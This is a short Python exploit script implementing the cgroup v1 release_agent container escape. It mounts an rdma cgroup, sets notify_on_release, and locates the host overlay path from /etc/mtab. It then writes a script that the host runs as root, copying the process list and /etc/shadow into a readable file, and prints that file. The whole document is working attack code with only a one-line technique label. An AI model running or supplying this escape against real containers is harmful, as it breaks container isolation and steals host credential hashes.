# technique: cgroup v1 release_agent escape: mount an rdma/memory cgroup, set notify_on_release and point release_agent at a script on the host overlay path
import os, re, subprocess, time
d = "/tmp/cgrp"
os.makedirs(d, exist_ok=True)
subprocess.run(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", d])
os.makedirs(d + "/x", exist_ok=True)
open(d + "/x/notify_on_release", "w").write("1")
host_path = re.search(r"upperdir=([^,]+)", open("/etc/mtab").read()).group(1)
open(d + "/release_agent", "w").write(host_path + "/cmd")
open("/cmd", "w").write("#!/bin/sh\nps aux > " + host_path + "/output\ncat /etc/shadow >> " + host_path + "/output\n")
os.chmod("/cmd", 0o755)
subprocess.run(["sh", "-c", "echo $$ > %s/x/cgroup.procs" % d])
time.sleep(1)
print(open("/output").read())
